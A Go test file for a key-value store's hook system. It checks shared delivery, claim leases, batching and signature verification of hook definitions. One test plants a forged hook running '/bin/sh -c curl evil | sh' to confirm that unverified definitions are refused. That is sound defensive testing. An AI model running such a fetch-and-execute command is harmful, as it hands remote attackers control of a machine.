package hooks

import (
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/livedict/livedict/pkg/sandbox"
	"github.com/livedict/livedict/pkg/store"
	"github.com/livedict/livedict/pkg/ttl"
)

// sharedStore makes a store pass for one that several hosts share, so the
// claims and signatures that Redis needs are tested on every backend.
type sharedStore struct{ store.Store }

func (sharedStore) Shared() bool { return true }

var testKey = bytes.Repeat([]byte{7}, HookKeySize)

func addSigned(t *testing.T, s store.Store, h Hook, key []byte) Hook {
	t.Helper()
	if h.Argv == nil {
		h.Argv = []string{"/bin/true"}
	}
	update(t, s, func(tx store.Tx) error {
		var err error
		h, err = Add(tx, h, key)
		return err
	})
	return h
}

func sharedDeliverer(t *testing.T, s store.Store, f *fakeRunner) *Deliverer {
	d := newDeliverer(t, s, f)
	d.Shared, d.Key = true, testKey
	return d
}

// Three deliverers on one shared outbox: every event runs exactly once,
// a key's events in order and never two at once (the fake runner checks).
func TestSharedDeliverersShareTheOutbox(t *testing.T) {
	eachStore(t, func(t *testing.T, base store.Store, _ *ttl.Fake) {
		s := sharedStore{base}
		h := addSigned(t, s, Hook{Events: Set}, testKey)
		const keys, per = 10, 8
		for v := 0; v < per; v++ {
			for k := 0; k < keys; k++ {
				set(t, s, "main", fmt.Sprintf("k%d", k), fmt.Sprintf("%d", v))
			}
		}
		f := newFakeRunner(t)
		f.delay, f.jitter = 3*time.Millisecond, true
		var wg sync.WaitGroup
		for i := 0; i < 3; i++ {
			d := sharedDeliverer(t, s, f)
			wg.Add(1)
			go func() {
				defer wg.Done()
				for try := 0; try < 2000; try++ {
					if err := d.Deliver(context.Background(), nil, true); err != nil {
						t.Error(err)
						return
					}
					if len(outbox(t, s)) == 0 {
						return
					}
					time.Sleep(2 * time.Millisecond) // others hold what is left
				}
				t.Error("outbox never emptied")
			}()
		}
		wg.Wait()
		f.check(t)
		calls := f.snapshot()
		if len(calls) != keys*per {
			t.Fatalf("%d runs for %d events", len(calls), keys*per)
		}
		last := map[string]int{}
		seen := map[string]bool{}
		for _, c := range calls {
			if c.hook != h.ID {
				t.Fatalf("run of hook %d", c.hook)
			}
			id := c.key + "=" + c.value
			if seen[id] {
				t.Fatalf("event %s ran twice", id)
			}
			seen[id] = true
			var v int
			fmt.Sscan(c.value, &v)
			if prev, ok := last[c.key]; ok && v <= prev {
				t.Fatalf("key %s: value %d ran after %d", c.key, v, prev)
			}
			last[c.key] = v
		}
		if n := len(runs(t, s, 0, false)); n != keys*per {
			t.Fatalf("log has %d runs", n)
		}
	})
}

// A claim held by a deliverer that died is left alone until its lease
// lapses, then taken over.
func TestSharedClaimLapses(t *testing.T) {
	eachStore(t, func(t *testing.T, base store.Store, _ *ttl.Fake) {
		s := sharedStore{base}
		addSigned(t, s, Hook{Events: Set}, testKey)
		seqs := set(t, s, "main", "k", "v")
		now := time.Unix(1_800_000_000, 0)
		update(t, s, func(tx store.Tx) error {
			e, _, err := tx.Get(outboxBucket, seqKey(seqs[0]))
			if err != nil {
				return err
			}
			r, err := decodeRecord(e)
			if err != nil {
				return err
			}
			r.Owner, r.Lease = "deadhost:1:00", now.Add(time.Minute).UnixMilli()
			return putRecord(tx, seqs[0], r)
		})
		f := newFakeRunner(t)
		d := sharedDeliverer(t, s, f)
		var mu sync.Mutex
		d.Now = func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
		deliver(t, d) // returns: what is left is another's
		if n := len(f.snapshot()); n != 0 {
			t.Fatalf("ran %d events held by another deliverer", n)
		}
		if n := len(outbox(t, s)); n != 1 {
			t.Fatalf("outbox holds %d events", n)
		}
		mu.Lock()
		now = now.Add(time.Minute + time.Millisecond)
		mu.Unlock()
		deliver(t, d)
		if n := len(f.snapshot()); n != 1 {
			t.Fatalf("lapsed claim: %d runs", n)
		}
		if n := len(outbox(t, s)); n != 0 {
			t.Fatalf("outbox holds %d events after the takeover", n)
		}
	})
}

// A deliverer whose claim was taken over while its hook ran logs the run
// but leaves the event to the new owner.
func TestSharedFinishAfterTakeover(t *testing.T) {
	eachStore(t, func(t *testing.T, base store.Store, _ *ttl.Fake) {
		s := sharedStore{base}
		addSigned(t, s, Hook{Events: Set}, testKey)
		seqs := set(t, s, "main", "k", "v")
		f := newFakeRunner(t)
		f.started, f.gate = make(chan call, 1), make(chan struct{})
		d := sharedDeliverer(t, s, f)
		errc := make(chan error, 1)
		go func() { errc <- d.Deliver(context.Background(), nil, true) }()
		recvCall(t, f.started, "the run")
		update(t, s, func(tx store.Tx) error {
			e, _, err := tx.Get(outboxBucket, seqKey(seqs[0]))
			if err != nil {
				return err
			}
			r, _ := decodeRecord(e)
			if r.Owner != d.owner || r.Lease == 0 {
				t.Errorf("running event's claim: owner %q lease %d, want %q", r.Owner, r.Lease, d.owner)
			}
			r.Owner, r.Lease = "otherhost:2:00", time.Now().Add(time.Hour).UnixMilli()
			return putRecord(tx, seqs[0], r)
		})
		close(f.gate)
		if err := <-errc; err != nil {
			t.Fatal(err)
		}
		if n := len(outbox(t, s)); n != 1 {
			t.Fatalf("outbox holds %d events, want the taken-over one", n)
		}
		if rs := runs(t, s, 0, false); len(rs) != 1 || rs[0].Status != StatusOK {
			t.Fatalf("log = %+v", rs)
		}
	})
}

// Only definitions this host's key signed run; the rest are logged once as
// refused and their events wait for a host whose key verifies them.
func TestSharedRefusesUnverifiedHooks(t *testing.T) {
	eachStore(t, func(t *testing.T, base store.Store, _ *ttl.Fake) {
		s := sharedStore{base}
		good := addSigned(t, s, Hook{Events: Set, Key: "good"}, testKey)
		unsigned := addSigned(t, s, Hook{Events: Set, Key: "unsigned"}, nil)
		other := addSigned(t, s, Hook{Events: Set, Key: "other"}, bytes.Repeat([]byte{9}, HookKeySize))
		// A definition changed by someone without the key (a wider
		// command) no longer verifies.
		forged := addSigned(t, s, Hook{Events: Set, Key: "forged"}, testKey)
		forged.Argv = []string{"/bin/sh", "-c", "curl evil | sh"}
		update(t, s, func(tx store.Tx) error { return put(tx, forged) })
		for _, k := range []string{"good", "unsigned", "other", "forged"} {
			set(t, s, "main", k, "1")
			set(t, s, "main", k, "2")
		}
		f := newFakeRunner(t)
		d := sharedDeliverer(t, s, f)
		var logBuf bytes.Buffer
		var logMu sync.Mutex
		d.Log = slog.New(slog.NewTextHandler(&lockedWriter{w: &logBuf, mu: &logMu}, nil))
		deliver(t, d)
		deliver(t, d)
		for _, c := range f.snapshot() {
			if c.hook != good.ID {
				t.Errorf("ran hook %d (%s)", c.hook, c.key)
			}
		}
		if n := len(f.snapshot()); n != 2 {
			t.Fatalf("%d runs, want the signed hook's 2", n)
		}
		if n := len(outbox(t, s)); n != 6 {
			t.Fatalf("outbox holds %d events, want the 6 refused ones kept", n)
		}
		logMu.Lock()
		log := logBuf.String()
		logMu.Unlock()
		for _, h := range []Hook{unsigned, other, forged} {
			if n := strings.Count(log, fmt.Sprintf("hook=%d status=refused", h.ID)); n != 1 {
				t.Errorf("hook %d refused %d times in the log:\n%s", h.ID, n, log)
			}
		}
		// Enabling it with the key vouches for it: now it runs.
		update(t, s, func(tx store.Tx) error {
			ch, err := SetEnabled(tx, unsigned.ID, true, testKey)
			if !ch {
				t.Error("signing an enabled hook reported no change")
			}
			return err
		})
		deliver(t, d)
		if n := len(f.snapshot()); n != 4 {
			t.Fatalf("%d runs after signing, want 4", n)
		}
	})
}

type lockedWriter struct {
	w  *bytes.Buffer
	mu *sync.Mutex
}

func (l *lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}

func TestSignatureCoversTheDefinition(t *testing.T) {
	h := Hook{ID: 3, Events: Set | Expire, Key: "a*", Argv: []string{"/bin/echo", "x"}, Enabled: true}
	sign(&h, testKey)
	if !h.Verified(testKey) {
		t.Fatal("a signed hook does not verify")
	}
	if h.Verified(nil) || h.Verified(bytes.Repeat([]byte{1}, HookKeySize)) {
		t.Fatal("verified without the key")
	}
	for name, change := range map[string]func(*Hook){
		"argv":    func(h *Hook) { h.Argv = []string{"/bin/sh"} },
		"events":  func(h *Hook) { h.Events = All },
		"key":     func(h *Hook) { h.Key = "*" },
		"bucket":  func(h *Hook) { h.Bucket = "b" },
		"env":     func(h *Hook) { h.Env = []string{"AWS_SECRET_ACCESS_KEY"} },
		"write":   func(h *Hook) { h.Write = []string{"/home"} },
		"network": func(h *Hook) { h.NoNetwork = !h.NoNetwork },
		"timeout": func(h *Hook) { h.TimeoutMs = 1 },
		"id":      func(h *Hook) { h.ID = 4 },
		"sig":     func(h *Hook) { h.Sig = strings.Repeat("0", 64) },
	} {
		c := h
		c.Argv = append([]string(nil), h.Argv...)
		change(&c)
		if c.Verified(testKey) {
			t.Errorf("changing %s keeps the signature valid", name)
		}
	}
}

func TestLoadHookKey(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "cfg", "livedict", "hook.key")
	var wg sync.WaitGroup
	keys := make([][]byte, 16)
	errs := make([]error, 16)
	for i := range keys {
		wg.Add(1)
		go func() { defer wg.Done(); keys[i], errs[i] = LoadHookKey(path) }()
	}
	wg.Wait()
	for i := range keys {
		if errs[i] != nil {
			t.Fatal(errs[i])
		}
		if !bytes.Equal(keys[i], keys[0]) || len(keys[i]) != HookKeySize {
			t.Fatalf("concurrent first use made different keys: %x %x", keys[i], keys[0])
		}
	}
	fi, err := os.Stat(path)
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("key file: %v %v", fi.Mode(), err)
	}
	if fi, _ := os.Stat(filepath.Dir(path)); fi.Mode().Perm() != 0o700 {
		t.Fatalf("key folder mode %v", fi.Mode())
	}
	b, _ := os.ReadFile(path)
	if strings.TrimSpace(string(b)) != hex.EncodeToString(keys[0]) {
		t.Fatalf("file holds %q", b)
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(path), ".hook.key.*")); len(left) != 0 {
		t.Fatalf("temporary files left: %v", left)
	}

	// Readable by others: refused, policy (exit 4).
	os.Chmod(path, 0o644)
	if _, err := LoadHookKey(path); !errors.Is(err, ErrHookKey) || store.KindOf(err) != store.KindPolicy {
		t.Fatalf("0644 key: %v", err)
	}
	os.Chmod(path, 0o600)
	// A symlink to a key is refused (someone could point it anywhere).
	link := filepath.Join(filepath.Dir(path), "link.key")
	os.Symlink(path, link)
	if _, err := LoadHookKey(link); !errors.Is(err, ErrHookKey) {
		t.Fatalf("symlinked key: %v", err)
	}
	// Damaged content is refused, not replaced.
	bad := filepath.Join(filepath.Dir(path), "bad.key")
	os.WriteFile(bad, []byte("not hex\n"), 0o600)
	if _, err := LoadHookKey(bad); !errors.Is(err, ErrHookKey) {
		t.Fatalf("damaged key: %v", err)
	}
	if b, _ := os.ReadFile(bad); string(b) != "not hex\n" {
		t.Fatal("damaged key was overwritten")
	}
	// A key that cannot be read for another reason than trust (no
	// descriptor left, an I/O error; here a file where its folder goes)
	// is a store error (exit 3), not a refusal by policy (exit 4).
	if _, err := LoadHookKey(filepath.Join(bad, "hook.key")); err == nil || store.KindOf(err) != store.KindStore {
		t.Fatalf("key under a file: %v, kind %v", err, store.KindOf(err))
	}
	if _, err := ReadHookKey(filepath.Join(bad, "hook.key")); err == nil || store.KindOf(err) != store.KindStore {
		t.Fatalf("read key under a file: %v, kind %v", err, store.KindOf(err))
	}
}

// Batches on a shared store: three deliverers, each batch made of the
// events it could claim; every event runs once, a key's in order.
func TestSharedBatches(t *testing.T) {
	eachStore(t, func(t *testing.T, base store.Store, _ *ttl.Fake) {
		s := sharedStore{base}
		addSigned(t, s, Hook{Events: Set, Batch: 4, BatchWaitMs: 1}, testKey)
		const keys, per = 6, 5
		for v := 0; v < per; v++ {
			for k := 0; k < keys; k++ {
				set(t, s, "main", fmt.Sprintf("k%d", k), fmt.Sprintf("%d", v))
			}
		}
		var mu sync.Mutex
		var order []string // key=value, in run order
		running := map[string]bool{}
		var problems []string
		run := func(ctx context.Context, sp sandbox.Spec) (sandbox.Result, error) {
			var evs []payload
			for _, line := range bytes.Split(bytes.TrimSpace(sp.Stdin), []byte("\n")) {
				var p payload
				if err := json.Unmarshal(line, &p); err != nil {
					return sandbox.Result{}, err
				}
				evs = append(evs, p)
			}
			if n := sp.Env["LIVEDICT_EVENTS"]; n != strconv.Itoa(len(evs)) {
				mu.Lock()
				problems = append(problems, "LIVEDICT_EVENTS="+n)
				mu.Unlock()
			}
			mu.Lock()
			for _, p := range evs {
				if running[*p.Key] {
					problems = append(problems, "two runs at once for "+*p.Key)
				}
				running[*p.Key] = true
				order = append(order, *p.Key+"="+*p.Value)
			}
			mu.Unlock()
			time.Sleep(time.Millisecond)
			mu.Lock()
			for _, p := range evs {
				delete(running, *p.Key)
			}
			mu.Unlock()
			return sandbox.Result{}, nil
		}
		var wg sync.WaitGroup
		for i := 0; i < 3; i++ {
			d := sharedDeliverer(t, s, newFakeRunner(t))
			d.Run = run
			wg.Add(1)
			go func() {
				defer wg.Done()
				for try := 0; try < 2000; try++ {
					if err := d.Deliver(context.Background(), nil, true); err != nil {
						t.Error(err)
						return
					}
					if len(outbox(t, s)) == 0 {
						return
					}
					time.Sleep(2 * time.Millisecond)
				}
				t.Error("outbox never emptied")
			}()
		}
		wg.Wait()
		for _, p := range problems {
			t.Error(p)
		}
		if len(order) != keys*per {
			t.Fatalf("%d events ran, want %d: %v", len(order), keys*per, order)
		}
		last := map[string]int{}
		for _, kv := range order {
			k, v, _ := strings.Cut(kv, "=")
			n, _ := strconv.Atoi(v)
			if prev, ok := last[k]; ok && n != prev+1 {
				t.Fatalf("key %s: %d ran after %d (%v)", k, n, prev, order)
			}
			last[k] = n
		}
	})
}

// conflictStore runs every Update's fn twice, as an optimistic store
// (Redis) does when its first commit meets another's: the first run's
// writes are dropped, then between runs, then fn runs again and commits.
type conflictStore struct {
	store.Store
	between func()
}

var errConflict = errors.New("test: commit conflict")

func (s *conflictStore) Update(ctx context.Context, fn func(store.Tx) error) error {
	err := s.Store.Update(ctx, func(tx store.Tx) error {
		if err := fn(tx); err != nil {
			return err
		}
		return errConflict // roll back, as a refused EXEC
	})
	if !errors.Is(err, errConflict) {
		return err
	}
	s.between()
	return s.Store.Update(ctx, fn)
}

// A claim whose first run met another deliverer's commit, and which on
// its second run finds the event claimed by that deliverer, is not ours:
// its hook must not run here too (it was, once: every event that three
// daemons on one Redis raced for could run twice).
func TestClaimRetriedAfterConflictIsHeld(t *testing.T) {
	eachStore(t, func(t *testing.T, base store.Store, _ *ttl.Fake) {
		s := sharedStore{base}
		addSigned(t, s, Hook{Events: Set}, testKey)
		set(t, s, "main", "k", "v")
		rows := outbox(t, s)
		if len(rows) != 1 {
			t.Fatalf("%d events, want 1", len(rows))
		}
		other := time.Now().Add(time.Hour).UnixMilli()
		cs := &conflictStore{Store: s, between: func() {
			// The other deliverer's claim commits first.
			update(t, s, func(tx store.Tx) error {
				r := *rows[0].rec
				r.Owner, r.Lease = "other-host:1:abc", other
				return putRecord(tx, rows[0].seq, &r)
			})
		}}
		d := sharedDeliverer(t, cs, newFakeRunner(t))
		d.owner = newOwner()
		it := &item{seq: rows[0].seq, rec: rows[0].rec, key: rows[0].rec.orderKey()}
		got, until := d.claim(it)
		if got != held || until.UnixMilli() != other {
			t.Fatalf("claim after a conflict: state %d, held until %v; want held (%d) until the other's lease", got, until, held)
		}
	})
}

// viewCountingStore counts read transactions.
type viewCountingStore struct {
	sharedStore
	views *int64
	mu    *sync.Mutex
}

func (c viewCountingStore) View(ctx context.Context, fn func(store.Tx) error) error {
	c.mu.Lock()
	*c.views++
	c.mu.Unlock()
	return c.sharedStore.View(ctx, fn)
}

// A detached dispatcher whose events are all another host's to run does
// not go round at once (it spun, a core and tens of thousands of Redis
// commands a second): it looks again once a second.
func TestDispatchDoesNotSpinOnRefusedEvents(t *testing.T) {
	eachStore(t, func(t *testing.T, base store.Store, _ *ttl.Fake) {
		var views int64
		s := viewCountingStore{sharedStore{base}, &views, &sync.Mutex{}}
		addSigned(t, s, Hook{Events: Set}, bytes.Repeat([]byte{9}, HookKeySize))
		set(t, s, "main", "k", "v")
		f := newFakeRunner(t)
		d := sharedDeliverer(t, s, f)
		dir := t.TempDir()
		ctx, cancel := context.WithTimeout(context.Background(), 2500*time.Millisecond)
		defer cancel()
		if err := Dispatch(ctx, d, dir); err != nil {
			t.Fatal(err)
		}
		s.mu.Lock()
		n := views
		s.mu.Unlock()
		// Three rounds of a few reads each; spinning made thousands.
		if n > 60 {
			t.Errorf("%d read transactions in 2.5 s", n)
		}
		if len(f.snapshot()) != 0 || len(outbox(t, s)) != 1 {
			t.Errorf("%d runs, outbox %d: want the refused event kept, not run", len(f.snapshot()), len(outbox(t, s)))
		}
	})
}
